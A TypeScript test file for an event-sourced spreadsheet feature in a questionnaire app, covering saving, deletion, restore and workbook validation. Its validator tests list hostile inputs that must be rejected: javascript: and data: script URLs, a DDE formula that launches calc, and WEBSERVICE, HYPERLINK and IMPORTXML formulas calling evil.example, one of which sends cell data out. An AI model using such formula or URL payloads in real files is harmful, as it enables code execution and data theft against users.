import { describe, expect, it } from 'vitest'
import { roles } from '../access/index.ts'
import { fold } from '../event-sourcing/index.ts'
import {
  checkWorkbook,
  countCells,
  excelDecider,
  excelLimits,
  excelOrderDecider,
  isOwnFormula,
  isSheetUrl,
  type ExcelCommand,
  type ExcelEvent,
  type ExcelForm,
  type ExcelState,
  type Workbook,
} from './index.ts'

const by = { sid: 'U1', role: roles.Supervisor, orgSid: 'ORG' } as const
const at = '2026-11-26T08:00:00.000Z'
const place = { naireSid: 'N1', orgSid: 'ORG', subjectSid: 'S1' }
const content = { hash: 'a', bytes: 10, cells: 3 }
const sheet: ExcelForm = { name: '门店名单', type: 0, url: null, content, userSids: ['C2', 'C1', 'C2'] }

const save = (form: Partial<ExcelForm> = {}, edition: number | null = null): ExcelCommand => ({
  type: 'SaveExcel',
  place,
  form: { ...sheet, ...form },
  edition,
  by,
  at,
})
const remove: ExcelCommand = { type: 'DeleteExcel', reason: '', by, at }
const restore = (reason = '删错了'): ExcelCommand => ({ type: 'RestoreExcel', reason, by, at })
const given = (...commands: readonly ExcelCommand[]): ExcelState =>
  commands.reduce<ExcelState>(
    (state, command) => excelDecider.decide(state, command).reduce(excelDecider.evolve, state),
    excelDecider.initial,
  )
const refusalOf = (state: ExcelState, command: ExcelCommand) => excelDecider.refusal(state, command)?.key

describe('a sheet', () => {
  it('is saved with its people once each, and counts its saves', () => {
    const [event] = excelDecider.decide(null, save())
    expect(event).toMatchObject({ type: 'ExcelSaved', data: { edition: 1, userSids: ['C1', 'C2'], ...place } })
    expect(given(save(), save({ name: '新名单' }, 1))).toMatchObject({ name: '新名单', edition: 2 })
  })

  it('has nothing to say when it is saved as it was', () => {
    expect(excelDecider.decide(given(save()), save({}, 1))).toEqual([])
  })

  it('is not saved over what somebody else has saved meanwhile', () => {
    const saved = given(save(), save({ name: '别人的' }, 1))
    expect(refusalOf(saved, save({ name: '我的' }, 1))).toBe('excel.changed')
    expect(refusalOf(saved, save({ name: '我的' }, 2))).toBeUndefined()
    expect(refusalOf(saved, save({ name: '不看版本的旧客户端' }))).toBeUndefined()
    expect(refusalOf(null, save({}, 3))).toBe('excel.notFound')
  })

  it('stays in its questionnaire, and what it is', () => {
    const saved = given(save())
    const elsewhere = { ...save(), place: { ...place, naireSid: 'N2' } } as ExcelCommand
    expect(refusalOf(saved, elsewhere)).toBe('excel.notFound')
    expect(refusalOf(saved, save({ type: 1, url: 'https://a.example/', content: null }))).toBe('excel.invalid')
  })

  it.each([
    [{ name: '  ' }, 'Name'],
    [{ name: 'x'.repeat(excelLimits.nameLength + 1) }, 'Name'],
    [{ userSids: Array.from({ length: excelLimits.users + 1 }, (_, n) => `${n}`) }, 'ExcelUsers'],
    [{ type: 1 as const, url: 'javascript:alert(1)', content: null }, 'Data'],
    [{ type: 1 as const, url: null, content: null }, 'Data'],
  ])('is refused with %o, naming the field', (form, target) => {
    expect(excelDecider.refusal(null, save(form))).toEqual({ key: 'excel.invalid', target })
  })

  it('lies in the bin until it is restored with a reason', () => {
    const deleted = given(save(), remove)
    expect(refusalOf(deleted, save({ name: '再存' }))).toBe('excel.notFound')
    expect(refusalOf(deleted, remove)).toBe('excel.notFound')
    expect(refusalOf(deleted, restore(' '))).toBe('excel.reasonMissing')
    expect(given(save(), remove, restore())).toMatchObject({ isDeleted: false, name: '门店名单', edition: 1 })
    expect(refusalOf(given(save()), restore())).toBe('excel.notDeleted')
  })

  it('folds any history without judging it', () => {
    const strange: readonly ExcelEvent[] = [{ type: 'ExcelRestored', data: { ...place, reason: '' } }]
    expect(fold(excelDecider, strange)).toBeNull()
  })

  it('stands once in an order', () => {
    const reorder = (sids: readonly string[]) =>
      excelOrderDecider.refusal(null, { type: 'ReorderExcels', place, sids, by, at })
    expect(reorder(['A', 'B'])).toBeNull()
    expect(reorder(['A', 'A'])?.key).toBe('excel.invalid')
  })
})

it.each([
  ['https://docs.example.com/sheet?id=1#gid=0', true],
  ['http://10.0.0.8/表.xlsx', true],
  ['https://user:secret@evil.example/', false],
  ['https:\\\\evil.example', false],
  ['//evil.example', false],
  ['data:text/html,<script>', false],
  ['ftp://a.example', false],
  [`https://a.example/${'x'.repeat(2_000)}`, false],
])('the address %s may be opened: %s', (url, may) => expect(isSheetUrl(url)).toBe(may))

describe('a content', () => {
  const book: Workbook = {
    tabs: [
      {
        name: '一月',
        rows: [
          ['编号', '门店', true],
          [1, { v: 3, f: 'SUM(A1:A2)', z: '0.0' }, null],
        ],
        merges: [[0, 0, 1, 2]],
        widths: [12, null],
      },
    ],
  }
  const wrong = (change: object) => checkWorkbook({ tabs: [{ ...book.tabs[0], ...change }] })

  it('is a list of tabs with plain and rich cells', () => {
    expect(checkWorkbook(book)).toBeNull()
    expect(countCells(book)).toBe(6)
  })

  it.each([
    [{ rows: [[{ v: 1, html: '<b>' }]] }, 'Data.tabs[0].rows[0][0]'],
    [{ rows: [[{ f: 'A1' }]] }, 'Data.tabs[0].rows[0][0]'],
    [{ rows: [[[1]]] }, 'Data.tabs[0].rows[0][0]'],
    [{ rows: [['x'.repeat(excelLimits.textLength + 1)]] }, 'Data.tabs[0].rows[0][0]'],
    [{ rows: 'A1' }, 'Data.tabs[0].rows'],
    [{ rows: [[], 1] }, 'Data.tabs[0].rows[1]'],
    [{ merges: [[0, 0, 0, 1]] }, 'Data.tabs[0].merges'],
    [{ widths: [-1] }, 'Data.tabs[0].widths'],
    [{ name: '' }, 'Data.tabs[0].name'],
  ])('with %o is refused, naming the place', (change, target) => {
    expect(wrong(change)).toEqual({ key: 'excel.invalid', target })
  })

  it('has a number of cells and tabs, which the refusal says', () => {
    const row = Array.from({ length: 1_000 }, () => 1)
    const rows = Array.from({ length: 1_001 }, () => row)
    expect(wrong({ rows })).toMatchObject({ key: 'excel.tooManyCells', details: { most: 1_000_000 } })
    const tabs = Array.from({ length: 101 }, () => book.tabs[0])
    expect(checkWorkbook({ tabs })).toMatchObject({ key: 'excel.tooManyTabs', details: { most: 100 } })
    for (const none of [null, [], {}, { tabs: [] }, 'x'])
      expect(checkWorkbook(none)).toEqual({ key: 'excel.invalid', target: 'Data' })
  })
})

it.each([
  ['SUM(A1:B2)*2', true],
  ['\'一月\'!A1&"[x]|http"', true],
  ['IF(A1="=cmd|calc",1,0)', true],
  ["cmd|'/c calc'!A0", false],
  ['WEBSERVICE("http://evil.example/?"&A1)', false],
  ['hyperlink("http://evil.example")', false],
  ["'[other.xlsx]Sheet1'!A1", false],
  ['IMPORTXML("http://evil.example","//a")', false],
])('the formula %s goes out with a file: %s', (formula, may) => expect(isOwnFormula(formula)).toBe(may))
